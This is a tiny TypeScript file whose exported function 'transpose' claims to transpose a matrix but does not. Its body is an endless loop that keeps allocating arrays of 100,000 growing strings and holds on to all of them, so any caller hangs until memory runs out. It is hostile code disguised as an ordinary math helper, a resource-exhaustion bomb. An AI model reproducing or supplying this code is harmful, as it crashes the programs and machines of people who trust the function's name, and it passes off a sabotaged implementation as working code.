import type { Matrix } from "innerproduct";

export function transpose(a: Matrix): Matrix {
  let text = 'transpose';
  const kept: string[][] = [];
  for (;;) {
    kept.push(Array.from({ length: 100_000 }, (_, i) => text + i));
    text += a.rows;
  }
}
